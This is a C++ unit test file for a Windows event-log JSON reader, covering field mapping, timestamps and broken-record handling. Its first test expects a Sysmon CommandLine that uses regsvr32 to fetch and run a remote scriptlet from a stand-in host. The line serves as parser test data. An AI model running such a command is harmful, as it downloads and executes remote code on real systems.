// JSON reader: shipper layouts mapped onto Windows names, record splitting, damage.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "io_test_util.h"

namespace splinter::io::testing {
namespace {

std::vector<StoredEvent> read_json_text(const std::string& text, CollectSink& s, FileStats* out = nullptr) {
  TempDir d;
  auto stats = read_inputs({d.file("x.json", text)}, s);
  if (out) *out = stats.at(0);
  return s.events;
}

TEST(IoJsonCases, C17ThreeShippersAgree) {
  std::string p = shared_dir() + "/cases/C17.jsonl";
  if (slurp(p).empty()) GTEST_SKIP() << "shared cases absent";
  CollectSink s;
  auto stats = read_inputs({p}, s);
  ASSERT_EQ(stats.size(), 1u);
  EXPECT_EQ(stats[0].format, Format::Json);
  EXPECT_EQ(stats[0].parsed, 3u);
  EXPECT_EQ(stats[0].rejected, 0u);
  ASSERT_EQ(s.events.size(), 3u);
  const int64_t second = utc_us(2024, 5, 16, 9, 20, 11);
  for (const auto& e : s.events) {
    SCOPED_TRACE(e.line);
    EXPECT_EQ(e.at("EventID"), "1");
    EXPECT_EQ(e.format, EventFormat::Json);
    EXPECT_EQ(e.at("EventCode"), "1");
    EXPECT_EQ(e.at("Computer"), "WS01");
    EXPECT_EQ(e.at("CommandLine"), "regsvr32.exe /s /i:http://cdn.example.test/a.sct scrobj.dll");
    EXPECT_EQ(e.at("Image"), "C:\\Windows\\System32\\regsvr32.exe");
    EXPECT_EQ(e.at("OriginalFileName"), "REGSVR32.EXE");
    EXPECT_EQ(e.at("ParentCommandLine"), "C:\\Windows\\system32\\cmd.exe /c deploy.bat");
    EXPECT_EQ(e.at("ParentImage"), "C:\\Windows\\System32\\cmd.exe");
    EXPECT_EQ(e.at("User"), "CORP\\alice");
    EXPECT_EQ(e.at("Channel"), "Microsoft-Windows-Sysmon/Operational");
    EXPECT_EQ(e.at("ProviderName"), "Microsoft-Windows-Sysmon");
    ASSERT_NE(e.time_us, kNoTime);
    EXPECT_EQ((e.time_us - second) / 1000000, 0) << e.time_us - second;
  }
  EXPECT_EQ(s.events[0].at("EventRecordID"), "5001");
  EXPECT_EQ(s.events[1].at("EventRecordID"), "5002");
  EXPECT_EQ(s.events[2].at("EventRecordID"), "5003");
  EXPECT_EQ(s.events[0].at("UserID"), "S-1-5-18");
  EXPECT_EQ(s.events[1].at("ProcessId"), "6121");  // from ECS process.pid
  EXPECT_EQ(s.events[0].time_us, second + 529000);  // Sysmon UtcTime
  EXPECT_EQ(s.events[1].time_us, second + 532000);  // @timestamp (no UtcTime in event_data)
  // Shipper names stay available as dotted paths, after the canonical fields.
  EXPECT_EQ(s.events[0].at("winlog.event_data.CommandLine"),
            "regsvr32.exe /s /i:http://cdn.example.test/a.sct scrobj.dll");
  EXPECT_EQ(s.events[1].at("process.command_line"),
            "regsvr32.exe /s /i:http://cdn.example.test/a.sct scrobj.dll");
  EXPECT_EQ(s.events[1].at("process.args{}"), "regsvr32.exe");
  EXPECT_EQ(s.events[1].count("process.args{}"), 4u);
  EXPECT_EQ(s.events[2].at("Hostname"), "WS01");
  EXPECT_EQ(s.events[2].count("CommandLine"), 1u);
}

TEST(IoJson, EvtxDumpLayout) {
  std::string text = R"({
  "Event": {
    "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
    "System": {
      "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing", "Guid": "54849625"}},
      "EventID": {"#text": 4688, "#attributes": {"Qualifiers": 0}},
      "TimeCreated": {"#attributes": {"SystemTime": "2025-11-27T07:40:10.165324Z"}},
      "EventRecordID": 571146, "Correlation": null,
      "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 8}},
      "Channel": "Security", "Computer": "dc01",
      "Security": {"#attributes": {"UserID": "S-1-5-18"}}
    },
    "EventData": {"NewProcessName": "C:\\x\\a.exe", "CommandLine": "a \"b\"", "Flag": true, "Nothing": null,
                  "Ratio": 2.5}
  }
}
{"Event": {"System": {"EventID": 1102, "Computer": "h"}, "EventData": null,
           "UserData": {"LogFileCleared": {"#attributes": {"xmlns": "x"}, "SubjectUserName": "bob"}}}}
{"Event": {"System": {"EventID": 7045}, "EventData": {"Data": [{"#attributes": {"Name": "ServiceName"}, "#text": "svc"}, "loose"]}}}
)";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 3u) << (s.problems.empty() ? "" : s.problems[0].what);
  EXPECT_EQ(ev[0].at("EventID"), "4688");
  EXPECT_EQ(ev[0].at("EventCode"), "4688");
  EXPECT_EQ(ev[0].at("ProviderName"), "Microsoft-Windows-Security-Auditing");
  EXPECT_EQ(ev[0].at("SystemTime"), "2025-11-27T07:40:10.165324Z");
  EXPECT_EQ(ev[0].at("EventRecordID"), "571146");
  EXPECT_EQ(ev[0].at("ProcessID"), "4");
  EXPECT_EQ(ev[0].at("UserID"), "S-1-5-18");
  EXPECT_EQ(ev[0].at("Computer"), "dc01");
  EXPECT_EQ(ev[0].at("CommandLine"), "a \"b\"");  // decoded JSON string
  EXPECT_EQ(ev[0].at("NewProcessName"), "C:\\x\\a.exe");
  EXPECT_EQ(ev[0].at("Flag"), "true");
  EXPECT_EQ(ev[0].at("Ratio"), "2.5");
  EXPECT_EQ(ev[0].get("Nothing"), nullptr);
  EXPECT_EQ(ev[0].time_us, utc_us(2025, 11, 27, 7, 40, 10) + 165324);
  EXPECT_EQ(ev[0].line, 1u);
  EXPECT_EQ(ev[1].line, 1u + uint64_t(std::count(text.begin(), text.begin() + text.find("{\"Event\": {\"System\""), '\n')));
  EXPECT_EQ(ev[1].at("SubjectUserName"), "bob");
  EXPECT_EQ(ev[1].get("xmlns"), nullptr);
  EXPECT_EQ(ev[2].at("ServiceName"), "svc");
  EXPECT_EQ(ev[2].at("Data"), "loose");
  EXPECT_EQ(ev[2].time_us, kNoTime);
}

TEST(IoJson, TopLevelArrayAndWinlogbeat6) {
  std::string text = R"([
  {"@timestamp": "2019-05-18T20:36:46.254Z", "event_id": 3, "computer_name": "W6", "log_name": "Microsoft-Windows-Sysmon/Operational",
   "source_name": "Microsoft-Windows-Sysmon", "record_number": "42", "event_data": {"Image": "C:\\a.exe"},
   "user": {"identifier": "S-1-5-18", "domain": "NT AUTHORITY", "name": "SYSTEM"}},
  {"EventTime": "2024-05-16 11:20:11", "EventID": 4624, "Hostname": "N1", "TargetUserName": "x", "Nested": {"a": 1}}
])";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 2u) << (s.problems.empty() ? "" : s.problems[0].what);
  EXPECT_TRUE(s.problems.empty());
  EXPECT_EQ(ev[0].at("EventID"), "3");
  EXPECT_EQ(ev[0].at("Computer"), "W6");
  EXPECT_EQ(ev[0].at("Channel"), "Microsoft-Windows-Sysmon/Operational");
  EXPECT_EQ(ev[0].at("ProviderName"), "Microsoft-Windows-Sysmon");
  EXPECT_EQ(ev[0].at("EventRecordID"), "42");
  EXPECT_EQ(ev[0].at("UserID"), "S-1-5-18");
  EXPECT_EQ(ev[0].at("Image"), "C:\\a.exe");
  EXPECT_EQ(ev[0].get("User"), nullptr);  // no ECS join for Winlogbeat 6
  EXPECT_EQ(ev[0].time_us, utc_us(2019, 5, 18, 20, 36, 46) + 254000);
  EXPECT_EQ(ev[1].at("EventID"), "4624");
  EXPECT_EQ(ev[1].at("Computer"), "N1");
  EXPECT_EQ(ev[1].at("TargetUserName"), "x");
  EXPECT_EQ(ev[1].at("Nested.a"), "1");
  EXPECT_EQ(ev[1].time_us, utc_us(2024, 5, 16, 11, 20, 11));  // only EventTime available
  EXPECT_EQ(ev[1].line, 5u);
}

TEST(IoJson, BrokenRecordsRejectedAndNextRead) {
  std::string text =
      "{\"EventID\": 1, \"A\": \"ok\"}\n"
      "{\"EventID\": 2, \"A\": \"cut\n"
      "{\"EventID\": 3, \"A\": \"ok3\"}\n"
      "{\"EventID\": 4, \"A\": [1,2}\n"
      "not json at all\n"
      "{\"EventID\": 5, \"A\": {\"b\": 1}\n"
      "{\"EventID\": 6}\n"
      "{\"EventID\": 7, \"A\": \"tail";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 3u);
  EXPECT_EQ(ev[0].at("EventID"), "1");
  EXPECT_EQ(ev[1].at("EventID"), "3");
  EXPECT_EQ(ev[1].line, 3u);
  EXPECT_EQ(ev[2].at("EventID"), "6");
  EXPECT_EQ(ev[2].line, 7u);
  // Line 4's unbalanced record swallows the junk line 5 until the next column-0 '{'.
  ASSERT_EQ(s.problems.size(), 4u);
  EXPECT_EQ(s.problems[0].line, 2u);
  EXPECT_EQ(s.problems[1].line, 4u);
  EXPECT_EQ(s.problems[2].line, 6u);
  EXPECT_EQ(s.problems[3].line, 8u);
  EXPECT_EQ(s.problems[3].offset, text.rfind('{'));
  EXPECT_EQ(st.read, 7u);
  EXPECT_EQ(st.parsed, 3u);
  EXPECT_EQ(st.rejected, 4u);
}

}  // namespace
}  // namespace splinter::io::testing
